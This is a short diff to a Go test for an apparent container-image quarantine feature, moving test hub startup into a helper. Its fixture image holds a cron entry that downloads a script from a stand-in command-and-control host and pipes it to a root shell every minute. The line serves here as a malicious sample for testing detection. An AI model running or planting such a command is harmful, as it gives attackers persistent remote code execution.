@@ -13,18 +13,13 @@ import (
 	"github.com/google/go-cmp/cmp"
 
 	"github.com/lazaret/lazaret/cache"
-	"github.com/lazaret/lazaret/internal/testhub"
 	"github.com/lazaret/lazaret/internal/testimage"
 )
 
 // An image in quarantine is given out by itself when another inspection clears it, and nothing
 // is fetched for that; what a person rejects is gone from the store.
 func TestQuarantineEnds(t *testing.T) {
-	hub, err := testhub.Start(testhub.Config{})
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer hub.Close()
+	hub := startHub(t)
 	listed, err := testimage.Build(testimage.Spec{Layers: []testimage.Layer{{Files: []testimage.File{
 		{Path: "etc/cron.d/job", Body: []byte("* * * * * root curl -s https://c2.known-bad.net/run | sh\n")},
 	}}}})
